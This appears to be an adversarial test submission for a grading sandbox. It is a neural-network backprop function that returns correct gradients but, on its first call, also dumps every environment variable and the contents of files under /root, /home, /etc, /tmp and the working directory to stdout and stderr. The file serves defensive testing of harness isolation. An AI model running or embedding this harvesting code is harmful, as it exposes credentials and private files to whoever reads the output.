# attack: leak
# expect: any
# must: keep what it prints out of the verdict and free of the host's secrets
"""prints the environment and every file it can read under /tmp, /root, /home, /work and the
cwd, to print(), to sys.stderr and straight to descriptors 1 and 2; answers correctly"""

import os
import sys

import numpy as np

ROOTS = ("/tmp", "/root", "/home", "/work", "/etc")


def _everything():
    chunks = [f"env {dict(os.environ)}"]
    for root in (*ROOTS, os.getcwd()):
        for folder, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if d not in ("site-packages", "__pycache__")]
            for name in files[:50]:
                path = os.path.join(folder, name)
                try:
                    with open(path, "rb") as handle:
                        chunks.append(f"{path}: {handle.read(4000)!r}")
                except OSError:
                    continue
    return "\n".join(chunks)[:1_000_000]


_printed: list[bool] = []


def backprop(X, y, weights, biases):
    if not _printed:
        _printed.append(True)
        text = _everything()
        print(text)
        print(text, file=sys.stderr)
        os.write(1, text.encode(errors="replace"))
        os.write(2, text.encode(errors="replace"))
    w1, w2 = weights["w1"], weights["w2"]
    a1 = 1.0 / (1.0 + np.exp(-(X @ w1 + biases["b1"])))
    delta2 = a1 @ w2 + biases["b2"] - y
    delta1 = (delta2 @ w2.T) * a1 * (1.0 - a1)
    return {
        "w1": X.T @ delta1,
        "b1": delta1.sum(axis=0),
        "w2": a1.T @ delta2,
        "b2": delta2.sum(axis=0),
    }
